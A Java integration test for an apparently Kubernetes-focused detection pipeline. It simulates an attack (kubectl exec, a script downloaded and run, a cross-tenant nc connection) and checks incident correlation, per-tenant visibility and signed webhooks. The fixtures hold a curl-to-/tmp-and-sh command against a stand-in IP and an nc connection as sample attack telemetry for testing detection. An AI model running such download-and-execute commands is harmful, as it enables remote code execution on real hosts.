package dev.bulwark.cli;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;

import co.elastic.clients.elasticsearch.ElasticsearchClient;
import dev.bulwark.api.ApiServer;
import dev.bulwark.api.ApiTokens;
import dev.bulwark.api.FindingsService;
import dev.bulwark.deploy.LocalStack;
import dev.bulwark.deploy.RealStack;
import dev.bulwark.ingest.Parsers;
import dev.bulwark.sink.ElasticsearchClients;
import dev.bulwark.sink.EntityIndex;
import dev.bulwark.sink.FindingIndex;
import dev.bulwark.sink.IncidentIndex;
import io.micrometer.core.instrument.simple.SimpleMeterRegistry;

/**
 * The attack an incident is for, end to end on the real stack through the real parsers: {@code minikube-user} runs
 * {@code kubectl exec} into acme's pod (a Kubernetes audit event), the shell downloads a script to /tmp and runs it,
 * then {@code nc} connects into globex's database pod (Tetragon exec and connect events). The three findings (two
 * Sigma rules and the cross-tenant network detector) become one incident, in order, attributed to the user who
 * exec'd; the
 * SOC sees all of it, acme its own pod's side, globex the incoming violation on its pod, through the query API; and
 * each update of the incident reaches the SOC's signed webhook once, and acme's webhook with acme's side only.
 */
class IncidentScenarioIT {

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final String SOC = "soc-token-for-scenario-0123456789";
    private static final String ACME = "acme-token-for-scenario-0123456789";
    private static final String GLOBEX = "globex-token-for-scenario-0123456789";
    private static final String DB_IP = "10.244.7.21";
    private static final String CONTAINER_ID = "containerd://4f1c2b7e9d3a5c8e1f0a2b4c6d8e0f1a3b5c7d9e1f2a4b6c8d0e2f4a6b8c0d2e";

    /** acme owns default (the exec's pod); globex owns ledger, whose database pod has DB_IP. */
    private static final String OBJECTS = """
            {"apiVersion":"v1","kind":"Namespace","metadata":{"name":"default","labels":{"bulwark.io/tenant":"acme"}}}
            {"apiVersion":"v1","kind":"Namespace","metadata":{"name":"ledger","labels":{"bulwark.io/tenant":"globex"}}}
            {"apiVersion":"v1","kind":"Pod","metadata":{"name":"db-0","namespace":"ledger"},"spec":{"containers":[{"name":"postgres","image":"postgres:16"}]},"status":{"phase":"Running","podIP":"%s"}}
            """.formatted(DB_IP);

    @TempDir
    Path state;

    @Test
    void anExecDownloadAndCrossTenantConnectionBecomeOneIncidentEachTenantSeeingItsSide() throws Exception {
        LocalStack stack = RealStack.get();
        BulwarkConfig config = EndToEndIT.config(stack, RealStack.uniquePrefix("scenario"));
        config.detection.detectors.put("sigma", Map.of("emit-interval", "0s"));
        // Notifications: every incident to the SOC's signed webhook, and acme's incidents to acme's own webhook.
        List<Map<String, Object>> soc = new java.util.concurrent.CopyOnWriteArrayList<>();
        List<Map<String, Object>> acmeHook = new java.util.concurrent.CopyOnWriteArrayList<>();
        com.sun.net.httpserver.HttpServer receiver = receiver(soc, acmeHook);
        String base = "http://127.0.0.1:" + receiver.getAddress().getPort();
        config.notify.routes = dev.bulwark.notify.Routes.parse("notify.routes", List.of(
                Map.of("name", "soc", "kind", "incidents", "format", "webhook", "url", base + "/soc",
                        "secret", HOOK_SECRET),
                Map.of("name", "acme", "kind", "incidents", "format", "webhook", "url", base + "/acme",
                        "secret", HOOK_SECRET, "tenant", "acme")), false);
        ElasticsearchClient client = ElasticsearchClients.create(stack.elasticsearchUrl());
        FindingIndex index = new FindingIndex(config.elasticsearch.indexPrefix);
        IncidentIndex incidents = IncidentIndex.forFindings(index);
        new KafkaClients(config).ensureTopics();
        ApiServer api = null;
        try (Pipeline pipeline = Pipeline.start(config, state, new SimpleMeterRegistry());
             Notifications notifications = Notifications.start(config, state, new SimpleMeterRegistry())) {
            assertThat(pipeline.awaitRunning(Duration.ofSeconds(60))).isTrue();
            ingest(config, "k8s-objects", OBJECTS.strip().lines().toList());
            Thread.sleep(1_000); // the directory catches up before the events, as a watch would have long before
            Instant t = Instant.now();
            String auditId = "5d0c3f4e-1a2b-4c3d-8e9f-0a1b2c3d4e5f";
            ingest(config, "k8s-audit", List.of(ExecSessionIT.audit(t, auditId, "kubecon", "sh")));
            Thread.sleep(500);
            ingest(config, "tetragon", List.of(
                    exec(t.plusMillis(200), "c2hlbGw=", "/bin/sh", "", runc()),
                    exec(t.plusMillis(4_000), "ZG93bmxvYWQ=", "/bin/sh",
                            "-c \"/usr/bin/curl -fsSL http://203.0.113.5/a.sh -o /tmp/a.sh && sh /tmp/a.sh\"",
                            parent("c2hlbGw=", "/bin/sh")),
                    exec(t.plusMillis(6_000), "bmM=", "/usr/bin/nc", DB_IP + " 5432",
                            parent("ZG93bmxvYWQ=", "/bin/sh")),
                    connect(t.plusMillis(6_100), "bmM=", "/usr/bin/nc", parent("ZG93bmxvYWQ=", "/bin/sh"))));

            JsonNode found;
            api = new ApiServer(new ApiServer.Settings("127.0.0.1", 0, 2),
                    ApiTokens.of(ApiTokens.parseEnvironment(SOC + "=soc@analyst," + ACME + "=tenant:acme,"
                            + GLOBEX + "=tenant:globex")), new FindingsService(client, index, Clock.systemUTC()));
            found = awaitIncident(api, 3);
            JsonNode incident = get(api, SOC, "/api/incidents/" + found.get("id").asText()).get("incident");
            List<String> rules = new ArrayList<>();
            incident.get("timeline").forEach(f -> rules.add(f.get("rule_id").asText()));
            // The exec itself (SigmaHQ's rule on the audit event), the download and run, the connection: in order.
            assertThat(rules).as(incident.toString()).containsExactly("a1b0ca4e-7835-413e-8471-3ff2b8a66be6",
                    "a2d9e2f3-0f43-4c7a-bcd9-9acfc0d723aa", "bulwark.isolation.cross_tenant_network");
            incident.get("timeline").forEach(f -> assertThat(f.get("user").asText()).as(f.toString())
                    .isEqualTo("minikube-user"));
            assertThat(incident.get("tenants").toString()).contains("acme", "globex");
            assertThat(incident.get("detectors").toString()).contains("sigma", "cross-tenant-network");
            assertThat(incident.get("entities").toString()).contains("pod:default/kubecon", "pod:ledger/db-0",
                    "identity:minikube-user");
            assertThat(get(api, SOC, "/api/incidents").get("incidents")).as("one incident").hasSize(1);

            // The acting tenant: its own pod's side, the exec's user on its own finding, nothing of globex.
            String acmeBody = raw(api, ACME, "/api/incidents/" + incident.get("id").asText());
            assertThat(acmeBody).doesNotContain("globex").doesNotContain("ledger").doesNotContain("db-0")
                    .doesNotContain(DB_IP);
            JsonNode acme = JSON.readTree(acmeBody).get("incident");
            assertThat(acme.get("timeline")).hasSize(3);
            assertThat(acme.at("/timeline/1/user").asText()).isEqualTo("minikube-user");
            assertThat(acme.at("/timeline/2/rule_id").asText()).isEqualTo("bulwark.isolation.cross_tenant_network");
            assertThat(acme.at("/timeline/2/entities").toString()).isEqualTo("[\"pod:default/kubecon\"]");
            assertThat(acme.at("/timeline/2/pod").asText()).isEqualTo("kubecon");
            assertThat(acme.get("other_tenants_involved").asBoolean()).isTrue();

            // The victim: the incoming violation on its database pod, never who or which pod of acme.
            String globexBody = raw(api, GLOBEX, "/api/incidents/" + incident.get("id").asText());
            assertThat(globexBody).doesNotContain("acme").doesNotContain("kubecon").doesNotContain("minikube-user")
                    .doesNotContain("a2d9e2f3").doesNotContain("a1b0ca4e");
            JsonNode globex = JSON.readTree(globexBody).get("incident");
            assertThat(globex.get("timeline")).hasSize(1);
            assertThat(globex.at("/timeline/0/pod").asText()).isEqualTo("db-0");
            assertThat(globex.at("/timeline/0/entities").toString()).isEqualTo("[\"pod:ledger/db-0\"]");
            assertThat(globex.get("hidden_findings").asInt()).isEqualTo(2);

            // Each incident update reached the webhooks once, signed; acme's hook got only acme's side of it.
            awaitNotified(soc, 3);
            awaitNotified(acmeHook, 3);
            assertThat(totals(soc)).as("one notification per incident update").doesNotHaveDuplicates()
                    .endsWith(3L);
            assertThat(soc).allSatisfy(n -> assertThat(n.get("verified")).isEqualTo(true));
            String acmeNotified = JSON.writeValueAsString(acmeHook);
            assertThat(acmeNotified).contains("minikube-user").doesNotContain("globex").doesNotContain("ledger")
                    .doesNotContain("db-0");
            assertThat(notifications.notReadyReason()).isNull();
        } finally {
            receiver.stop(0);
            if (api != null) {
                api.close();
            }
            index.deleteAll(client);
            for (String other : List.of(EntityIndex.forFindings(index).prefix(), incidents.prefix())) {
                client.indices().delete(d -> d.index(other).ignoreUnavailable(true).allowNoIndices(true));
            }
            client._transport().close();
        }
    }

    private static final String HOOK_SECRET = "scenario-webhook-secret-0123456789";

    /** A local webhook receiver: each request's JSON body, and whether its signature verified, per path. */
    @SuppressWarnings("unchecked")
    private static com.sun.net.httpserver.HttpServer receiver(List<Map<String, Object>> soc,
            List<Map<String, Object>> acme) throws Exception {
        var server = com.sun.net.httpserver.HttpServer.create(new java.net.InetSocketAddress("127.0.0.1", 0), 0);
        server.createContext("/", exchange -> {
            byte[] body = exchange.getRequestBody().readAllBytes();
            Map<String, Object> notice = new java.util.LinkedHashMap<>(JSON.readValue(body, Map.class));
            notice.put("verified", dev.bulwark.notify.WebhookSignature.verify(HOOK_SECRET,
                    exchange.getRequestHeaders().getFirst(dev.bulwark.notify.WebhookSignature.TIMESTAMP_HEADER), body,
                    exchange.getRequestHeaders().getFirst(dev.bulwark.notify.WebhookSignature.SIGNATURE_HEADER),
                    Instant.now(), Duration.ofMinutes(5)));
            (exchange.getRequestURI().getPath().equals("/acme") ? acme : soc).add(notice);
            exchange.sendResponseHeaders(204, -1);
            exchange.close();
        });
        server.start();
        return server;
    }

    /** The findings_total of each incident notification, in the order they came. */
    @SuppressWarnings("unchecked")
    private static List<Long> totals(List<Map<String, Object>> notices) {
        List<Long> totals = new ArrayList<>();
        for (Map<String, Object> notice : notices) {
            if ("incident".equals(notice.get("kind"))) {
                totals.add(((Number) ((Map<String, Object>) notice.get("incident")).get("findings_total")).longValue());
            }
        }
        return totals;
    }

    private static void awaitNotified(List<Map<String, Object>> notices, long findings) throws Exception {
        long deadline = System.nanoTime() + Duration.ofSeconds(60).toNanos();
        while (System.nanoTime() < deadline) {
            if (totals(notices).contains(findings)) {
                return;
            }
            Thread.sleep(200);
        }
        throw new AssertionError("no incident notification with " + findings + " findings; got " + notices);
    }

    /** Waits for the one incident to hold {@code findings} findings in the index, through the SOC's API. */
    private static JsonNode awaitIncident(ApiServer api, int findings) throws Exception {
        long deadline = System.nanoTime() + Duration.ofSeconds(90).toNanos();
        String last = null;
        while (System.nanoTime() < deadline) {
            HttpResponse<String> response = send(api, SOC, "/api/incidents");
            last = response.statusCode() + " " + response.body();
            if (response.statusCode() == 503) { // the incident index was just created: its shard is not active yet
                Thread.sleep(500);
                continue;
            }
            assertThat(response.statusCode()).as(last).isEqualTo(200);
            for (JsonNode incident : JSON.readTree(response.body()).get("incidents")) {
                if (incident.get("findings_total").asInt() >= findings) {
                    return incident;
                }
            }
            Thread.sleep(500);
        }
        throw new AssertionError("no incident with " + findings + " findings in the index; last answer: " + last);
    }

    private static HttpResponse<String> send(ApiServer api, String token, String path) throws Exception {
        return HttpClient.newHttpClient().send(HttpRequest.newBuilder(URI.create(api.url() + path))
                .header("Authorization", "Bearer " + token).build(), HttpResponse.BodyHandlers.ofString());
    }

    private static String raw(ApiServer api, String token, String path) throws Exception {
        HttpResponse<String> response = send(api, token, path);
        assertThat(response.statusCode()).as(path + ": " + response.body()).isEqualTo(200);
        return response.body();
    }

    private static JsonNode get(ApiServer api, String token, String path) throws Exception {
        return JSON.readTree(raw(api, token, path));
    }

    /** The exec shim that starts an exec'd command: runc, on the host (no pod). */
    private static ObjectNode runc() {
        ObjectNode parent = JSON.createObjectNode();
        parent.put("exec_id", "cnVuYw==");
        parent.put("pid", 4100);
        parent.put("binary", "/usr/bin/runc");
        parent.put("arguments", "--root /run/containerd/runc/k8s.io exec --process /tmp/runc-process1 --detach "
                + CONTAINER_ID.substring("containerd://".length()));
        return parent;
    }

    private static ObjectNode parent(String execId, String binary) {
        ObjectNode parent = process(execId, binary, "");
        parent.put("parent_exec_id", "cnVuYw==");
        return parent;
    }

    /** A Tetragon process of acme's pod default/kubecon, container nginx1 (the audit event's container). */
    private static ObjectNode process(String execId, String binary, String arguments) {
        ObjectNode process = JSON.createObjectNode();
        process.put("exec_id", execId);
        process.put("pid", 5000 + Math.abs(execId.hashCode() % 1000));
        process.put("uid", 0);
        process.put("cwd", "/");
        process.put("binary", binary);
        process.put("arguments", arguments);
        process.put("flags", "execve clone");
        ObjectNode pod = process.putObject("pod");
        pod.put("namespace", "default");
        pod.put("name", "kubecon");
        ObjectNode container = pod.putObject("container");
        container.put("id", CONTAINER_ID);
        container.put("name", "nginx1");
        container.putObject("image").put("name", "docker.io/library/nginx:1.25");
        return process;
    }

    private static String exec(Instant time, String execId, String binary, String arguments, ObjectNode parent) {
        ObjectNode process = process(execId, binary, arguments);
        process.put("start_time", time.toString());
        process.put("parent_exec_id", parent.get("exec_id").asText());
        ObjectNode event = JSON.createObjectNode();
        ObjectNode exec = event.putObject("process_exec");
        exec.set("process", process);
        exec.set("parent", parent);
        event.put("node_name", "kind-worker");
        event.put("time", time.toString());
        return event.toString();
    }

    private static String connect(Instant time, String execId, String binary, ObjectNode parent) {
        ObjectNode process = process(execId, binary, DB_IP + " 5432");
        process.put("parent_exec_id", parent.get("exec_id").asText());
        ObjectNode event = JSON.createObjectNode();
        ObjectNode connect = event.putObject("process_connect");
        connect.set("process", process);
        connect.set("parent", parent);
        connect.put("source_ip", "10.244.1.9");
        connect.put("source_port", 40112);
        connect.put("destination_ip", DB_IP);
        connect.put("destination_port", 5432);
        connect.put("protocol", "TCP");
        event.put("node_name", "kind-worker");
        event.put("time", time.toString());
        return event.toString();
    }

    private static void ingest(BulwarkConfig config, String format, List<String> lines) throws Exception {
        byte[] bytes = (String.join("\n", lines) + "\n").getBytes(StandardCharsets.UTF_8);
        var stats = Ingestion.ingest(config, Parsers.forFormat(format),
                List.of(new Ingestion.Source(format, () -> new ByteArrayInputStream(bytes))), 1 << 20, false);
        assertThat(stats.balanced()).as(stats.toString()).isTrue();
        assertThat(stats.deadLettered()).as(stats.toString()).isZero();
    }
}
